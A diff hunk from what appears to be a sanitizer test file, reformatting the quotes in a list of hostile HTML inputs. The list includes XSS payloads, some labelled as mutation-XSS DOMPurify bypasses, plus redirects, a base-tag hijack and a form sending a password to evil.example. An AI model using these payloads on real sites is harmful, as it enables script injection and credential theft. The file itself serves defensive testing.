@@ -19,18 +19,18 @@ HOSTILE = [
     '<a href="vbscript:msgbox(1)">clic</a>',
     '<p onmouseover="alert(1)">survol</p>',
     '<svg onload="alert(1)"><circle r="1"/></svg>',
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<style>body{display:none}</style><p style=\"position:fixed\">x</p>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<style>body{display:none}</style><p style="position:fixed">x</p>',
     "<form action=https://evil.example><input name=password></form>",
     "<object data=x.swf></object><embed src=x.swf>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # mutation XSS (DOMPurify bypass)
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<!--<img src=x onerror=alert(1)>-->",
-    "<p>a</p><base href=\"https://evil.example/\">",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
-    "<a href=\"https://ok.example\" target=_blank onclick=alert(1)>lien</a>",
+    '<p>a</p><base href="https://evil.example/">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<a href="https://ok.example" target=_blank onclick=alert(1)>lien</a>',
     "<h2><scr<script>ipt>alert(1)</script></h2>",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
 ]
 
 DANGEROUS = re.compile(
